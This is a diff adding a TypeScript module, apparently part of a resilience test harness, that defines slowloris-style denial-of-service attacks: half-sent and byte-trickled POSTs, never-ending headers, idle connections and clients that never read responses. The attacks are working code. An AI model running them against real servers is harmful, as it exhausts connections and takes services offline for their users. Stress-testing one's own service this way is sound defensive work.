@@ -1,0 +1,56 @@
+import { connect, type Socket } from 'node:net';
+import { setTimeout as sleep } from 'node:timers/promises';
+import { type Attack, type Target } from '../attack.js';
+
+const FROM = '127.0.0.2';
+
+/** Opens `count` connections, writes `beginning` to each, lets `go` do what it wants with them, and ends them. */
+async function hold(
+  { address, over }: Target,
+  count: number,
+  beginning: string,
+  go: (sockets: Socket[]) => void = () => undefined,
+): Promise<void> {
+  const { hostname, port, host } = new URL(address);
+  const sockets = Array.from({ length: count }, () => {
+    const socket = connect({ host: hostname, port: Number(port), localAddress: FROM });
+    socket.on('error', () => undefined);
+    socket.write(beginning.replace('HOST', host));
+    return socket;
+  });
+  while (!over.aborted) {
+    go(sockets.filter(({ writable }) => writable));
+    await sleep(500);
+  }
+  for (const socket of sockets) socket.destroy();
+}
+
+const post = (path: string, length: number) =>
+  `POST ${path} HTTP/1.1\r\nHost: HOST\r\nContent-Type: application/json\r\nContent-Length: ${length}\r\n\r\n`;
+
+/** Clients that say little, slowly, or do not listen. */
+export const connectionAttacks: readonly Attack[] = [
+  { name: '1 000 half-sent small POSTs', run: (target) => hold(target, 1_000, `${post('/security/v2/me', 100)}{`) },
+  {
+    name: '400 half-sent large POSTs, a byte now and then',
+    run: (target) =>
+      hold(target, 400, `${post('/security/v2/me', 30_000_000)}${' '.repeat(100_000)}`, (sockets) => {
+        for (const socket of sockets) socket.write(' ');
+      }),
+  },
+  {
+    name: '1 000 requests whose headers never end',
+    run: (target) =>
+      hold(target, 1_000, 'GET /security/v2/me HTTP/1.1\r\nHost: HOST\r\n', (sockets) => {
+        for (const socket of sockets) socket.write('X-More: 1\r\n');
+      }),
+  },
+  { name: '1 000 connections that say nothing', run: (target) => hold(target, 1_000, '') },
+  {
+    name: '300 clients that do not read their answers',
+    run: (target) => {
+      const ask = 'GET /mention/v2/countries HTTP/1.1\r\nHost: HOST\r\n\r\n'.repeat(200);
+      return hold(target, 300, ask, (sockets) => sockets.forEach((socket) => socket.pause()));
+    },
+  },
+];
